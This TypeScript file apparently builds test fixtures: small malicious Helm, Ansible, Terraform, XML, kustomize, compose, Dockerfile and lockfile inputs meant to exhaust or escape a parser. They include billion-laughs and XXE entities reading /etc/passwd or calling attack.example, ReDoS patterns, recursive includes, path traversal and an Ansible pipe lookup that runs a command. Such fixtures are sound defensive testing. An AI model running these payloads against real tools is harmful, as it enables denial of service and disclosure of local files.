type Row = readonly [path: string, content: string];

const CHART = 'apiVersion: v2\nname: bomb\nversion: 0.1.0\n';

/** Lines of which each has what the one before it has twice. */
function doubling(count: number, line: (at: number) => string): string {
  return Array.from({ length: count }, (_, at) => line(at + 1)).join('');
}

/** A chart of one template. */
function chart(name: string, template: string, values = '{}\n'): readonly Row[] {
  return [
    [`helm/${name}/Chart.yaml`, CHART.replace('bomb', name)],
    [`helm/${name}/values.yaml`, values],
    [`helm/${name}/templates/a.yaml`, template],
  ];
}

/** A playbook, and what stands beside it. */
function play(name: string, tasks: string, more: readonly Row[] = []): readonly Row[] {
  const head = `- hosts: all\n  vars: { a: "{{ b }}", b: "{{ a }}", c: "{{ c }}" }\n  tasks:\n`;
  return [
    [`ansible/${name}/site.yml`, `${head}${tasks}`],
    [`ansible/${name}/inventory.ini`, '[web]\nweb1\n'],
    ...more.map(([path, text]) => [`ansible/${name}/${path}`, text] as const),
  ];
}

const HELM: readonly Row[] = [
  ...chart('itself', '{{ define "a" }}{{ include "a" . }}{{ end }}a: {{ include "a" . }}\n'),
  ...chart(
    'each-other',
    '{{ define "a" }}{{ template "b" . }}{{ end }}{{ define "b" }}{{ template "a" . }}{{ end }}{{ template "a" . }}\n',
  ),
  ...chart('tpl', 'a: {{ tpl .Values.a . }}\n', 'a: "{{ tpl .Values.a . }}"\n'),
  ...chart('until', 'a: {{ range until 1000000000 }}x{{ end }}\n'),
  ...chart('repeat', 'a: {{ repeat 1000000000 "x" }}\n'),
  ...chart('width', 'a: {{ printf "%999999999d" 1 | quote }}\n'),
  ...chart('indent', 'a: {{ indent 1000000000 "x" }}\n'),
  ...chart('deep', `${'{{ if true }}'.repeat(3000)}x${'{{ end }}'.repeat(3000)}\n`),
  ...chart('parentheses', `a: {{ ${'('.repeat(5000)}1${')'.repeat(5000)} }}\n`),
  ...chart('pipes', `a: {{ 1 ${'| quote '.repeat(20)} }}\n`),
  ...chart('unclosed', '{{'.repeat(5000)),
  ...chart(
    'patterns',
    'a: {{ regexMatch "(a*)*(a*)*b" (repeat 5000 "a") }}\nb: {{ regexReplaceAll "(x+x+)+y" (repeat 5000 "x") "z" }}\n',
  ),
  ...chart('own-values', 'a: {{ $_ := set .Values "self" .Values }}{{ .Values | toJson }}\n'),
  ...chart(
    'lookup',
    'a: {{ lookup "v1" "Secret" "" "" | toJson }}{{ env "HOME" }}{{ expandenv "$HOME" }}{{ getHostByName "attack.example" }}\n',
  ),
  [
    'helm/parent/Chart.yaml',
    `${CHART}dependencies: [{ name: parent, version: 0.1.0, repository: "file://../parent" }]\n`,
  ],
  [
    'helm/parent/templates/a.yaml',
    'a: {{ .Files.Get "../../../../etc/passwd" | quote }}{{ .Files.Get "/etc/passwd" | quote }}\n',
  ],
];

const ANSIBLE: readonly Row[] = [
  ...play(
    'loops',
    '    - debug: { msg: "{{ a }}{{ c }}" }\n    - debug: { msg: "{{ item }}" }\n      loop: "{{ range(1000000000) | list }}"\n',
  ),
  ...play('text', `    - debug: { msg: "{{ 'x' * 1000000000 }}{{ 'x' | center(1000000000) }}" }\n`),
  ...play('itself', '    - include_tasks: again.yml\n', [['again.yml', '- include_tasks: again.yml\n']]),
  ...play('plays', '    - debug: { msg: x }\n- import_playbook: site.yml\n'),
  ...play('roles', '    - include_role: { name: one }\n', [
    ['roles/one/meta/main.yml', 'dependencies: [{ role: two }]\n'],
    ['roles/two/meta/main.yml', 'dependencies: [{ role: one }]\n'],
    ['roles/one/tasks/main.yml', '- include_role: { name: two }\n'],
    ['roles/two/tasks/main.yml', '- include_role: { name: one }\n'],
  ]),
  ...play(
    'patterns',
    `    - debug: { msg: "{{ '${'a'.repeat(3000)}' | regex_search('(a*)*(a*)*b') }}" }\n      when: "'${'x'.repeat(3000)}' is match('(x+x+)+y')"\n`,
  ),
  ...play(
    'deep',
    `    - debug: { msg: "{{ ${'('.repeat(3000)}1${')'.repeat(3000)} }}{% for a in [1] %}{% for b in a %}{{ loop }}" }\n`,
  ),
  ...play(
    'files',
    `    - debug: { msg: "{{ lookup('file', '/etc/passwd') }}{{ lookup('pipe', 'touch attacked') }}{{ lookup('env', 'HOME') }}" }\n`,
  ),
  [
    'ansible/groups/hosts.ini',
    '[a:children]\nb\n[b:children]\na\n[c:children]\nc\n[d]\nweb[0:999999999].example.org\n',
  ],
  ...play('ranges', '    - debug: { msg: x }\n').map(([path, text]) =>
    path.endsWith('inventory.ini') ? ([path, '[web]\nweb[0001:9999].[01:99]\n'] as const) : ([path, text] as const),
  ),
];

const TERRAFORM: readonly Row[] = [
  ['tf/module-of-itself/main.tf', 'module "again" { source = "./" }\nmodule "up" { source = "../module-of-itself" }\n'],
  [
    'tf/locals/main.tf',
    'locals {\n  a = local.b\n  b = local.a\n  c = [local.c]\n}\nresource "aws_s3_bucket" "a" { bucket = local.a }\n',
  ],
  [
    'tf/range/main.tf',
    'resource "aws_s3_bucket" "a" {\n  count  = length(range(1000000000))\n  bucket = format("%1000000000s", "x")\n}\n',
  ],
  ['tf/count/main.tf', 'resource "aws_s3_bucket" "a" { count = 999999999 }\n'],
  [
    'tf/product/main.tf',
    `resource "aws_s3_bucket" "a" { for_each = toset([for p in setproduct(${Array.from({ length: 12 }, () => 'range(100)').join(', ')}) : join("", p)]) }\n`,
  ],
  [
    'tf/patterns/main.tf',
    `locals { a = regexall("(a*)*(a*)*b", "${'a'.repeat(3000)}") }\nresource "aws_s3_bucket" "a" { bucket = replace("${'x'.repeat(3000)}", "/(x+x+)+y/", "z") }\n`,
  ],
  ['tf/deep/main.tf', `locals { a = ${'['.repeat(5000)}${']'.repeat(5000)} }\n`],
  ['tf/deep-open/main.tf', `locals { a = ${'{ b = '.repeat(5000)}`],
  ['tf/template/main.tf', `locals { a = "${'${"'.repeat(500)}x${'"}'.repeat(500)}" }\n`],
  [
    'tf/file/main.tf',
    'resource "aws_s3_bucket" "a" {\n  bucket = file("/etc/passwd")\n  acl    = templatefile("${path.module}/main.tf", { x = filebase64("../../../../etc/passwd") })\n}\n',
  ],
  ['tf/blocks/main.tf', `${'a {\n'.repeat(3000)}${'}\n'.repeat(3000)}`],
  ['tf/heredoc/main.tf', 'locals { a = <<EOT\n${"\n'],
  [
    'tf/dynamic/main.tf',
    `resource "aws_security_group" "a" {\n${'dynamic "ingress" {\nfor_each = range(1000)\ncontent {\n'.repeat(4)}${'}\n}\n'.repeat(4)}}\n`,
  ],
  [
    'tf/live/terragrunt.hcl',
    `locals {\n${Array.from({ length: 40 }, (_, at) => `  l${at} = merge(local.l${at + 1}, local.l${at + 1})\n`).join('')}}\ninputs = local.l0\n`,
  ],
  ['tf/one-line/main.tf', `locals { a = ${'1 + '.repeat(20_000)}1 }\n`],
];

const XML_HEAD = '<bom xmlns="http://cyclonedx.org/schema/bom/1.5">';

const OTHERS: readonly Row[] = [
  [
    'xml/entities/bom.xml',
    `<!DOCTYPE bom [<!ENTITY a "xxxxxxxxxx">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${'b'.repeat(at + 1)} "${`&${at === 0 ? 'a' : 'b'.repeat(at)};`.repeat(10)}">`).join('')}]>${XML_HEAD}<components>&bbbbbbbbb;</components></bom>`,
  ],
  [
    'xml/outside/bom.xml',
    `<!DOCTYPE bom [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://attack.example/">]>${XML_HEAD}<components><component type="library"><name>&a;&b;</name></component></components></bom>`,
  ],
  ['xml/deep/bom.xml', `${XML_HEAD}${'<components><component>'.repeat(20_000)}`],
  [
    'xml/pom.xml',
    `<project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion><groupId>g</groupId><artifactId>a</artifactId><version>\${v}</version><parent><groupId>g</groupId><artifactId>a</artifactId><version>1</version><relativePath>pom.xml</relativePath></parent><properties><v>\${w}</v><w>\${v}\${v}</w></properties></project>`,
  ],
  [
    'custom/one/kustomization.yaml',
    'resources: [../two, ../one, https://attack.example/x?ref=main]\ncomponents: [../one]\n',
  ],
  ...Array.from({ length: 60 }, (_, at): Row => [
    `custom/deep/l${at}/kustomization.yaml`,
    `namePrefix: a\nresources: [../l${at + 1}]\n`,
  ]),
  ['custom/two/kustomization.yaml', 'resources: [../one]\npatches: [{ path: ../../../../etc/passwd }]\n'],
  [
    'compose/docker-compose.yml',
    'include: [docker-compose.yml]\nservices:\n  a: { extends: { service: b } }\n  b: { extends: { service: a } }\n  c: { extends: { file: /etc/passwd, service: c }, env_file: ../../../etc/passwd, image: "${A:-${B:-${A}}}" }\n',
  ],
  [
    'images/doubling.Dockerfile',
    `FROM scratch\nENV V0=xxxxxxxxxx\n${doubling(60, (at) => `ENV V${at}=$V${at - 1}$V${at - 1}\n`)}USER $V60\nRUN echo $V60\n`,
  ],
  [
    'images/Dockerfile',
    `FROM a AS a\nFROM a AS b\nFROM b AS a\nARG A=\${B}\nARG B=\${A}\nENV A=\${A}\${A}\${A} B=\${A}\${A}\nUSER \${A}\nRUN ${'\\\n'.repeat(5000)}x\nRUN <<A <<B\n`,
  ],
  ['python/requirements.txt', '-r requirements.txt\n-c requirements.txt\n-r /etc/passwd\n'],
  [
    'toml/Cargo.lock',
    `version = 4\n[[package]]\nname = "a"\nversion = ${'9'.repeat(5000)}\nat = 9999-99-99T99:99:99Z\nfar = [inf, nan, -0, 0xffffffffffffffffff]\n`,
  ],
  ['toml/uv.lock', `version = 1\n${Array.from({ length: 3000 }, (_, at) => `[a${at}.b.c.d.e.f]\n`).join('')}`],
  ['go/go.work', 'go 1.24\nuse (\n\t.\n\t./..\n\t../../../..\n\t/etc\n)\n'],
  [
    'pnpm/pnpm-lock.yaml',
    `lockfileVersion: '9.0'\nimporters: { .: { dependencies: { a: { specifier: '1', version: '1' } } } }\nsnapshots: { a@1: { dependencies: { b: '1' } }, b@1: { dependencies: { a: '1' } } }\n`,
  ],
];

/** Inputs that are small and ask for more than there is: recursion, growth, patterns without end, what is outside. */
export const BOMBS: readonly Row[] = [...HELM, ...ANSIBLE, ...TERRAFORM, ...OTHERS];
